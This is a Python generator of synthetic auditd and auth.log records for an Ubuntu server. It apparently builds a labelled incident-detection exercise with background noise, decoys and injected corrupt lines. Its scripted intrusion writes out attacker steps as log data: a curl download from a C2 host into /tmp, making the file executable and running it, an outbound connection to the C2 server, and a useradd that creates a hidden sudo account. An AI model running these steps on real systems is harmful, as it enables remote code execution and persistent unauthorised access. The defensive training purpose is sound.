"""One Linux server (``app-01``, Ubuntu 22.04): ``audit.log`` (raw) and ``auth.log`` (RFC 3164).

Both files come from one stream of activities (cron jobs, service processes, admin SSH
sessions with sudo, internet SSH scanners), so a login is in both files with the same pid and
session. An activity that lasts (an SSH session) queues its closing lines on a small heap that
is flushed in time order, so both files stay sorted.

auditd details reproduced: one serial per event, shared by all its records and increasing;
multi-record syscall events (SYSCALL, EXECVE, CWD, PATH…, PROCTITLE, EOE); arguments that
contain a space, a quote or a control character hex-encoded as the kernel does; PROCTITLE
NUL-joined, hex, cut at 128 bytes; SOCKADDR in hex; ``auid``/``ses`` kept across sudo.
"""

from __future__ import annotations

import heapq
import re
import time
from collections.abc import Callable
from typing import Any

from gen import cast as C
from gen.core import Out, Step, Truth, hexid, machine_weight, rng_for, times, weighted

_NEEDS_HEX = re.compile(r'[^\x21\x23-\x7e]')
UNSET = 4294967295
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


def aval(value: str) -> str:
    """An audit field value as the kernel writes it: quoted, or hex when it must be."""
    if _NEEDS_HEX.search(value) or not value:
        return value.encode().hex().upper()
    return f'"{value}"'


def proctitle(argv: list[str]) -> str:
    raw = "\0".join(argv).encode()[:128]
    if len(argv) == 1 and not _NEEDS_HEX.search(argv[0]):
        return f'"{argv[0]}"'
    return raw.hex().upper()


def saddr(ip: str, port: int) -> str:
    octets = bytes(int(x) for x in ip.split("."))
    return ("0200" + f"{port:04X}" + octets.hex().upper() + "0000000000000000")


def syslog_time(t: float) -> str:
    g = time.gmtime(t)
    return f"{_MONTHS[g.tm_mon - 1]} {g.tm_mday:2d} {g.tm_hour:02d}:{g.tm_min:02d}:{g.tm_sec:02d}"


# (exe, argv, cwd, uid, comm) of everyday processes on the server.
_SERVICE_EXECS: list[tuple[tuple[str, list[str], str, int], float]] = [
    (("/usr/bin/python3", ["python3", "/opt/app/bin/worker.py", "--queue", "invoices"],
      "/opt/app", 33), 30),
    (("/usr/bin/gzip", ["gzip", "-9", "/var/log/app/app.log.1"], "/var/log/app", 0), 8),
    (("/usr/sbin/logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.conf"], "/", 0), 4),
    (("/usr/bin/dash", ["/bin/sh", "-c", "test -x /usr/sbin/anacron || ( cd / && run-parts "
                        "--report /etc/cron.daily )"], "/root", 0), 6),
    (("/usr/bin/find", ["find", "/var/tmp/app-cache", "-mtime", "+7", "-delete"], "/", 33), 6),
    (("/usr/bin/pg_dump", ["pg_dump", "-Fc", "-f", "/backup/db/app.dump", "appdb"],
      "/var/lib/postgresql", 114), 3),
    (("/usr/bin/curl", ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}",
                        "http://127.0.0.1:8080/healthz"], "/", 0), 20),
]


class LinuxHost:
    """Writes ``linux/app-01/audit.log`` and ``linux/app-01/auth.log``."""

    def __init__(self, root: Any, seed: int, tl: C.Timeline, truth: Truth) -> None:
        self.rng = rng_for(seed, "linux")
        self.tl, self.truth = tl, truth
        self.audit = Out(root, f"linux/{C.LINUX_HOST}/audit.log")
        self.auth = Out(root, f"linux/{C.LINUX_HOST}/auth.log")
        self.serial = 180000 + self.rng.randrange(20000)
        self.pid = 20000
        self.ses = 3200
        self.pending: list[tuple[float, int, Callable[[float], None]]] = []
        self.seq = 0
        self.bad_at: set[int] = set()
        self.exec_pick = weighted(self.rng, _SERVICE_EXECS)

    # -- low-level writers ------------------------------------------------------------------
    def next_pid(self) -> int:
        self.pid += 1 + self.rng.randrange(6)
        if self.pid > 4_190_000:
            self.pid = 1000
        return self.pid

    def stamp(self, t: float) -> str:
        self.serial += 1 + (self.rng.random() < 0.05) * self.rng.randrange(1, 4)
        return f"{t:.3f}:{self.serial}"

    def user_msg(self, t: float, typ: str, pid: int, uid: int, auid: int, ses: int,
                 body: str) -> tuple[int, int]:
        st = self.stamp(t)
        return self.audit.write(f"type={typ} msg=audit({st}): pid={pid} uid={uid} auid={auid} "
                                f"ses={ses} subj=unconfined msg='{body}'\n")

    def pam(self, t: float, typ: str, op: str, grantors: str, acct: str, exe: str, pid: int,
            auid: int, ses: int, addr: str = "?", terminal: str = "ssh", ok: bool = True,
            hostname: str | None = None) -> tuple[int, int]:
        host = hostname or (addr if addr != "?" else "?")
        return self.user_msg(t, typ, pid, 0, auid, ses,
                             f"op={op} grantors={grantors} acct={aval(acct)} exe={aval(exe)} "
                             f"hostname={host} addr={addr} terminal={terminal} "
                             f"res={'success' if ok else 'failed'}")

    def execve(self, t: float, exe: str, argv: list[str], cwd: str, uid: int, auid: int,
               ses: int, ppid: int, tty: str = "(none)", pid: int | None = None,
               key: str = "exec") -> tuple[int, int]:
        rng = self.rng
        pid = pid or self.next_pid()
        st = self.stamp(t)
        gid = uid
        comm = argv[0].rsplit("/", 1)[-1][:15]
        args = " ".join(f"a{i}={aval(a)}" for i, a in enumerate(argv))
        base = 0x55D0_0000_0000 + rng.getrandbits(32)
        text = (
            f"type=SYSCALL msg=audit({st}): arch=c000003e syscall=59 success=yes exit=0 "
            f"a0={base:x} a1={base + 0x60:x} a2={base + 0x90:x} a3=8 items=2 ppid={ppid} "
            f"pid={pid} auid={auid} uid={uid} gid={gid} euid={uid} suid={uid} fsuid={uid} "
            f"egid={gid} sgid={gid} fsgid={gid} tty={tty} ses={ses} comm={aval(comm)} "
            f"exe={aval(exe)} subj=unconfined key=\"{key}\"\n"
            f"type=EXECVE msg=audit({st}): argc={len(argv)} {args}\n"
            f"type=CWD msg=audit({st}): cwd={aval(cwd)}\n"
            f"type=PATH msg=audit({st}): item=0 name={aval(exe)} inode="
            f"{rng.randrange(100000, 3000000)} dev=fc:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 "
            f"nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\n"
            f"type=PATH msg=audit({st}): item=1 name=\"/lib64/ld-linux-x86-64.so.2\" "
            f"inode=1835093 dev=fc:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL "
            f"cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\n"
            f"type=PROCTITLE msg=audit({st}): proctitle={proctitle(argv)}\n"
            f"type=EOE msg=audit({st}): \n")
        return self.audit.write(text)

    def connect(self, t: float, exe: str, argv: list[str], ip: str, port: int, uid: int,
                auid: int, ses: int, pid: int, ppid: int, tty: str) -> tuple[int, int]:
        st = self.stamp(t)
        comm = argv[0].rsplit("/", 1)[-1][:15]
        text = (
            f"type=SYSCALL msg=audit({st}): arch=c000003e syscall=42 success=yes exit=0 a0=5 "
            f"a1=7ffd{self.rng.getrandbits(32):08x} a2=10 a3=0 items=0 ppid={ppid} pid={pid} "
            f"auid={auid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} "
            f"sgid={uid} fsgid={uid} tty={tty} ses={ses} comm={aval(comm)} exe={aval(exe)} "
            f"subj=unconfined key=\"egress\"\n"
            f"type=SOCKADDR msg=audit({st}): saddr={saddr(ip, port)}\n"
            f"type=PROCTITLE msg=audit({st}): proctitle={proctitle(argv)}\n"
            f"type=EOE msg=audit({st}): \n")
        return self.audit.write(text)

    def syslog(self, t: float, prog: str, pid: int | None, text: str) -> tuple[int, int]:
        tag = f"{prog}[{pid}]" if pid is not None else prog
        return self.auth.write(f"{syslog_time(t)} {C.LINUX_HOST} {tag}: {text}\n")

    def later(self, t: float, fn: Callable[[float], None]) -> None:
        self.seq += 1
        heapq.heappush(self.pending, (t, self.seq, fn))

    def flush_until(self, t: float) -> None:
        while self.pending and self.pending[0][0] <= t:
            when, _, fn = heapq.heappop(self.pending)
            fn(when)

    # -- activities -----------------------------------------------------------------------------
    def ssh_session(self, t: float, user: str, uid: int, ip: str, method: str,
                    duration: float, commands: list[tuple[float, list[str], str]],
                    label: str | None = None, step: str = "", sudo_i: bool = False) -> int:
        """An SSH login, optional sudo commands, and (later) the logout, in both files."""
        rng, truth = self.rng, self.truth
        sshd = self.next_pid()
        port = rng.randrange(40000, 65000)
        self.ses += 1 + rng.randrange(3)
        ses = self.ses
        key_fp = "SHA256:" + hexid(rng, 43)[:43]
        refs: list[tuple[Out, tuple[int, int], str]] = []
        if method == "publickey":
            refs.append((self.auth, self.syslog(t, "sshd", sshd, f"Accepted publickey for {user} "
                         f"from {ip} port {port} ssh2: ED25519 {key_fp}"), "ssh login accepted"))
        else:
            refs.append((self.auth, self.syslog(t, "sshd", sshd, f"Accepted password for {user} "
                         f"from {ip} port {port} ssh2"), "ssh login accepted"))
        refs.append((self.audit, self.pam(t + 0.004, "USER_AUTH", "PAM:authentication" if
                     method == "password" else "pubkey", "pam_permit" if method == "password"
                     else "?", user, "/usr/sbin/sshd", sshd, UNSET, UNSET, ip), "USER_AUTH"))
        refs.append((self.audit, self.pam(t + 0.006, "USER_ACCT", "PAM:accounting",
                     "pam_permit", user, "/usr/sbin/sshd", sshd, UNSET, UNSET, ip),
                     "USER_ACCT"))
        refs.append((self.audit, self.pam(t + 0.009, "CRED_ACQ", "PAM:setcred",
                     "pam_permit,pam_cap", user, "/usr/sbin/sshd", sshd, UNSET, UNSET, ip),
                     "CRED_ACQ"))
        st = self.stamp(t + 0.011)
        refs.append((self.audit, self.audit.write(
            f"type=LOGIN msg=audit({st}): pid={sshd} uid=0 subj=unconfined old-auid={UNSET} "
            f"auid={uid} tty=(none) old-ses={UNSET} ses={ses} res=1\n"), "LOGIN"))
        refs.append((self.auth, self.syslog(t + 0.013, "sshd", sshd, f"pam_unix(sshd:session): "
                     f"session opened for user {user}(uid={uid}) by {user}(uid=0)"),
                     "session opened"))
        refs.append((self.audit, self.pam(t + 0.02, "USER_START", "PAM:session_open",
                     "pam_selinux,pam_loginuid,pam_keyinit,pam_permit,pam_umask,pam_unix,"
                     "pam_systemd,pam_mail,pam_limits,pam_env,pam_env,pam_selinux,pam_tty_audit",
                     user, "/usr/sbin/sshd", sshd, uid, ses, ip), "USER_START"))
        refs.append((self.auth, self.syslog(t + 0.03, "systemd-logind", 812,
                     f"New session {ses} of user {user}."), "new session"))
        refs.append((self.audit, self.user_msg(t + 0.05, "USER_LOGIN", sshd, 0, uid, ses,
                     f"op=login id={uid} exe=\"/usr/sbin/sshd\" hostname=? addr={ip} "
                     f"terminal=/dev/pts/1 res=success"), "USER_LOGIN"))
        if label:
            for out, span, what in refs:
                truth.add(label, f"{step}: {what}", t, out, span, [str(ses) if out is self.audit
                          and what not in ("USER_AUTH", "USER_ACCT", "CRED_ACQ") else user])
        shell = self.next_pid()
        root_shell = shell
        if sudo_i:
            self.later(t + 65.0 + rng.random(), lambda tt: self.sudo(
                tt, user, uid, ses, shell, "/bin/bash", label, "sudo to root"))
        for at, argv, cwd in commands:
            exe = argv[0] if argv[0].startswith("/") else f"/usr/bin/{argv[0]}"

            def run(tt: float, exe: str = exe, argv: list[str] = argv, cwd: str = cwd) -> None:
                if argv[0].endswith("/sudo"):
                    self.sudo(tt - 0.05, user, uid, ses, root_shell, " ".join(argv[1:]), label,
                              f"{step}: sudo", cwd)
                    argv = argv[1:]
                    exe = argv[0]
                # every scripted command runs as root: after `sudo -i`, or through sudo
                span = self.execve(tt, exe, argv, cwd, 0, uid, ses, root_shell, "pts1")
                if label:
                    truth.add(label, f"{step}: run {' '.join(argv)[:60]}", tt, self.audit, span,
                              [str(ses), argv[-1][:40]])
            self.later(t + at, run)

        def logout(tt: float) -> None:
            spans = [
                (self.auth, self.syslog(tt, "sshd", sshd, f"Received disconnect from {ip} port "
                                        f"{port}:11: disconnected by user"), [ip]),
                (self.auth, self.syslog(tt + 0.001, "sshd", sshd,
                                        f"Disconnected from user {user} {ip} port {port}"),
                 [user, ip]),
                (self.auth, self.syslog(tt + 0.002, "sshd", sshd, "pam_unix(sshd:session): "
                                        f"session closed for user {user}"), [user]),
                (self.audit, self.pam(tt + 0.003, "USER_END", "PAM:session_close",
                                      "pam_selinux,pam_loginuid,pam_keyinit,pam_permit,"
                                      "pam_umask,pam_unix,pam_systemd,pam_mail,pam_limits,"
                                      "pam_env,pam_env,pam_selinux,pam_tty_audit", user,
                                      "/usr/sbin/sshd", sshd, uid, ses, ip), [str(ses)]),
                (self.audit, self.pam(tt + 0.004, "CRED_DISP", "PAM:setcred",
                                      "pam_permit,pam_cap", user, "/usr/sbin/sshd", sshd, uid,
                                      ses, ip), [str(ses)]),
                (self.auth, self.syslog(tt + 0.01, "systemd-logind", 812,
                                        f"Session {ses} logged out. Waiting for processes to "
                                        "exit."), [str(ses)]),
            ]
            if label:
                for out, span, expect in spans:
                    truth.add(label, f"{step}: logout", tt, out, span, expect)
        self.later(t + duration, logout)
        return ses

    def sudo(self, t: float, user: str, uid: int, ses: int, tty_pid: int, command: str,
             label: str | None, step: str, cwd: str | None = None) -> None:
        pid = self.next_pid()
        cwd = cwd or f"/home/{user}"
        spans = [
            (self.auth, self.syslog(t, "sudo", None, f"{user:>8} : TTY=pts/1 ; PWD={cwd} ; "
                                    f"USER=root ; COMMAND={command}")),
            (self.audit, self.pam(t + 0.002, "USER_ACCT", "PAM:accounting", "pam_permit", user,
                                  "/usr/bin/sudo", pid, uid, ses, "?", "/dev/pts/1",
                                  hostname=C.LINUX_HOST)),
            (self.audit, self.user_msg(t + 0.003, "USER_CMD", pid, uid, uid, ses,
                                       f"cwd={aval(cwd)} cmd={command.encode().hex().upper()} "
                                       f"exe=\"/usr/bin/sudo\" terminal=pts/1 res=success")),
            (self.audit, self.pam(t + 0.004, "CRED_REFR", "PAM:setcred", "pam_permit", "root",
                                  "/usr/bin/sudo", pid, uid, ses, "?", "/dev/pts/1",
                                  hostname=C.LINUX_HOST)),
            (self.auth, self.syslog(t + 0.005, "sudo", None, "pam_unix(sudo:session): session "
                                    f"opened for user root(uid=0) by {user}(uid={uid})")),
            (self.audit, self.pam(t + 0.006, "USER_START", "PAM:session_open",
                                  "pam_limits,pam_env,pam_env,pam_permit,pam_umask,pam_unix",
                                  "root", "/usr/bin/sudo", pid, uid, ses, "?", "/dev/pts/1",
                                  hostname=C.LINUX_HOST)),
        ]
        if label:
            for out, span in spans:
                self.truth.add(label, step, t, out, span, [user if out is self.auth
                                                           else str(ses)])

    def cron(self, t: float) -> None:
        rng = self.rng
        pid = self.next_pid()
        self.ses += 1
        ses = self.ses
        self.pam(t, "USER_ACCT", "PAM:accounting", "pam_permit", "root", "/usr/sbin/cron", pid,
                 UNSET, UNSET, "?", "cron", hostname="?")
        self.pam(t + 0.001, "CRED_ACQ", "PAM:setcred", "pam_permit,pam_cap", "root",
                 "/usr/sbin/cron", pid, UNSET, UNSET, "?", "cron", hostname="?")
        st = self.stamp(t + 0.002)
        self.audit.write(f"type=LOGIN msg=audit({st}): pid={pid} uid=0 subj=unconfined "
                         f"old-auid={UNSET} auid=0 tty=(none) old-ses={UNSET} ses={ses} res=1\n")
        self.syslog(t + 0.002, "CRON", pid, "pam_unix(cron:session): session opened for user "
                    "root(uid=0) by (uid=0)")
        self.pam(t + 0.003, "USER_START", "PAM:session_open",
                 "pam_loginuid,pam_env,pam_env,pam_permit,pam_umask,pam_unix,pam_limits", "root",
                 "/usr/sbin/cron", pid, 0, ses, "?", "cron", hostname="?")
        self.execve(t + 0.01, "/usr/bin/dash", ["/bin/sh", "-c", "command -v debian-sa1 > "
                    "/dev/null && debian-sa1 1 1"], "/root", 0, 0, ses, pid)
        end = t + 0.2 + rng.random()
        self.pam(end, "CRED_DISP", "PAM:setcred", "pam_permit,pam_cap", "root", "/usr/sbin/cron",
                 pid, 0, ses, "?", "cron", hostname="?")
        self.pam(end + 0.001, "USER_END", "PAM:session_close",
                 "pam_loginuid,pam_env,pam_env,pam_permit,pam_umask,pam_unix,pam_limits", "root",
                 "/usr/sbin/cron", pid, 0, ses, "?", "cron", hostname="?")
        self.syslog(end + 0.001, "CRON", pid, "pam_unix(cron:session): session closed for user "
                    "root")

    def scanner(self, t: float) -> None:
        rng = self.rng
        ip = f"{C.SCANNER_NET}{rng.randrange(200, 251)}"
        user = rng.choice(("admin", "ubuntu", "test", "oracle", "postgres", "user", "git"))
        pid = self.next_pid()
        port = rng.randrange(30000, 65000)
        self.syslog(t, "sshd", pid, f"Invalid user {user} from {ip} port {port}")
        self.pam(t + 1.9, "USER_AUTH", "PAM:authentication", "?", "?", "/usr/sbin/sshd", pid,
                 UNSET, UNSET, ip, ok=False)
        self.syslog(t + 1.9, "sshd", pid, f"Failed password for invalid user {user} from {ip} "
                    f"port {port} ssh2")
        self.user_msg(t + 1.95, "USER_LOGIN", pid, 0, UNSET, UNSET,
                      f"op=login acct={aval(user)} exe=\"/usr/sbin/sshd\" hostname=? addr={ip} "
                      "terminal=ssh res=failed")
        self.syslog(t + 2.3, "sshd", pid, f"Connection closed by invalid user {user} {ip} port "
                    f"{port} [preauth]")

    def background(self, t: float) -> None:
        self.flush_until(t)
        r = self.rng.random()
        if r < 0.55:
            exe, argv, cwd, uid = self.exec_pick()
            self.execve(t, exe, argv, cwd, uid, UNSET, UNSET, 1187 if uid == 33 else 1)
        elif r < 0.75:
            self.cron(t)
        elif r < 0.92:
            self.scanner(t)
        else:
            hour = int(t // 3600) % 24
            wd = int(t // 86400 + 3) % 7
            p = C.ADMIN if self.rng.random() < 0.6 else C.DEVOPS
            if wd < 5 and p.hours[0] <= hour < p.hours[1] and not self.pending:
                ip = C.OFFICE_IP if self.rng.random() < 0.75 else C.VPN_IP
                assert p.unix and p.uid
                cmd = self.rng.choice(("/usr/bin/systemctl status app-worker",
                                       "/usr/bin/journalctl -u app-worker --since today",
                                       "/usr/bin/tail -n 200 /var/log/app/app.log"))
                ses = self.ssh_session(t, p.unix, p.uid, ip, "publickey",
                                       300 + self.rng.random() * 900, [])
                user, uid = p.unix, p.uid

                def sudo(tt: float) -> None:
                    self.sudo(tt, user, uid, ses, 0, cmd, None, "")
                self.later(t + 20 + self.rng.random() * 60, sudo)
            else:
                exe, argv, cwd, uid = self.exec_pick()
                self.execve(t, exe, argv, cwd, uid, UNSET, UNSET, 1)

    # -- scripted -------------------------------------------------------------------------------
    def scripted(self) -> list[Step]:
        tl = self.tl
        steps: list[Step] = []
        c2 = C.C2_IP

        def intrusion(t: float) -> None:
            self.ssh_session(t, "deploy", 1001, C.ATTACKER_IP, "publickey", 657.0, [],
                             label="incident", step="attacker SSH with the stolen deploy key",
                             sudo_i=True)
            ses = self.ses
            for dt, fn in (
                (155.0, lambda tt: self._incident_exec(tt, ses, "/usr/bin/curl",
                 ["curl", "-fsSL", "-o", "/tmp/.x-update", f"http://{c2}/x-update"], "/root",
                 "download into /tmp", connect=(c2, 80))),
                (180.0, lambda tt: self._incident_exec(tt, ses, "/usr/bin/chmod",
                 ["chmod", "+x", "/tmp/.x-update"], "/root", "make the download executable")),
                (195.0, lambda tt: self._incident_exec(tt, ses, "/tmp/.x-update",
                 ["/tmp/.x-update", "--daemon"], "/root", "execute the download from /tmp",
                 connect=(c2, 4443))),
                (345.0, lambda tt: self._useradd(tt, ses)),
            ):
                self.later(t + dt, fn)
        steps.append((tl.inc(23, 20, 5.412), intrusion))

        a = C.ADMIN
        assert a.unix and a.uid

        def maintenance(t: float) -> None:
            cmds: list[tuple[float, list[str], str]] = [
                (60.0, ["/usr/bin/apt-get", "update"], "/root"),
                (140.0, ["/usr/bin/apt-get", "-y", "upgrade"], "/root"),
                (900.0, ["/usr/bin/systemctl", "restart", "nginx"], "/root"),
                (960.0, ["/usr/bin/systemctl", "restart", "app-worker"], "/root"),
            ]
            self.ssh_session(t, a.unix or "", a.uid or 0, a.home_ip, "publickey", 2400.0, cmds,
                             label="decoy_maintenance", step="planned maintenance",
                             sudo_i=True)
        steps.append((tl.maintenance_day + 18 * C.HOUR + 1 * 60 + 7.5, maintenance))

        for night in tl.nightly():
            def ci(t: float) -> None:
                self.ssh_session(t, "deploy", 1001, C.CI_RUNNER_IP, "publickey", 95.0,
                                 [(30.0, ["/usr/bin/sudo", "/usr/bin/systemctl", "restart",
                                          "app-worker"], "/home/deploy")],
                                 label="decoy_nightly_ci", step="nightly CI deploy over SSH")
            steps.append((night + 2 * 60 + 3.3, ci))
        return steps

    def _incident_exec(self, t: float, ses: int, exe: str, argv: list[str], cwd: str,
                       step: str, connect: tuple[str, int] | None = None) -> None:
        pid = self.next_pid()
        span = self.execve(t, exe, argv, cwd, 0, 1001, ses, pid - 3, "pts1", pid=pid)
        self.truth.add("incident", step, t, self.audit, span, [str(ses), argv[0]])
        if connect:
            ip, port = connect
            span = self.connect(t + 0.04, exe, argv, ip, port, 0, 1001, ses, pid, pid - 3, "pts1")
            self.truth.add("incident", f"outbound connection to {ip}:{port}", t + 0.04,
                           self.audit, span, [str(ses), saddr(ip, port)])

    def _useradd(self, t: float, ses: int) -> None:
        argv = ["useradd", "-m", "-s", "/bin/bash", "-G", "sudo", "sysupdate"]
        pid = self.next_pid()
        span = self.execve(t, "/usr/sbin/useradd", argv, "/root", 0, 1001, ses, pid - 3, "pts1",
                           pid=pid)
        self.truth.add("incident", "new local user created", t, self.audit, span,
                       [str(ses), "sysupdate"])
        spans = [
            (self.auth, self.syslog(t + 0.01, "useradd", pid, "new group: name=sysupdate, "
                                    "GID=1004")),
            (self.auth, self.syslog(t + 0.011, "useradd", pid, "new user: name=sysupdate, "
                                    "UID=1004, GID=1004, home=/home/sysupdate, shell=/bin/bash, "
                                    "from=/dev/pts/1")),
            (self.audit, self.user_msg(t + 0.012, "ADD_GROUP", pid, 0, 1001, ses,
                                       "op=add-group acct=\"sysupdate\" exe=\"/usr/sbin/useradd\" "
                                       f"hostname={C.LINUX_HOST} addr=? terminal=pts/1 "
                                       "res=success")),
            (self.audit, self.user_msg(t + 0.013, "ADD_USER", pid, 0, 1001, ses,
                                       "op=add-user acct=\"sysupdate\" exe=\"/usr/sbin/useradd\" "
                                       f"hostname={C.LINUX_HOST} addr=? terminal=pts/1 "
                                       "res=success")),
            (self.auth, self.syslog(t + 0.02, "useradd", pid, "add 'sysupdate' to group 'sudo'")),
            (self.auth, self.syslog(t + 0.021, "useradd", pid, "add 'sysupdate' to shadow group "
                                    "'sudo'")),
        ]
        for out, span in spans:
            self.truth.add("incident", "new local user created", t, out, span,
                           ["sysupdate"])

    def run(self, n_activities: int) -> None:
        bad_line = max(3, n_activities // 2)
        count = [0]

        def bg(t: float) -> None:
            count[0] += 1
            if count[0] == bad_line:
                self.flush_until(t)
                line = self.auth.lines + 1
                self.auth.write("\0" * 37 + "\n", 1)
                self.truth.bad_record(self.auth, line, "run of NUL bytes (what a crash "
                                      "leaves in a syslog file)")
                line = self.auth.lines + 1
                self.auth.write(f"{syslog_time(t)[:10]}\n", 1)
                self.truth.bad_record(self.auth, line, "line truncated inside its timestamp")
            self.background(t)

        def in_order(fn: Callable[[float], None]) -> Callable[[float], None]:
            def step(t: float) -> None:
                self.flush_until(t)  # queued lines of earlier sessions go first
                fn(t)
            return step

        from gen.core import run_stream
        run_stream(times(self.rng, self.tl.start, self.tl.days, n_activities, machine_weight),
                   bg, [(t, in_order(fn)) for t, fn in self.scripted()])
        self.flush_until(float("inf"))
        end = self.tl.start + self.tl.days * C.DAY
        self.audit.close(end)
        self.auth.close(end)
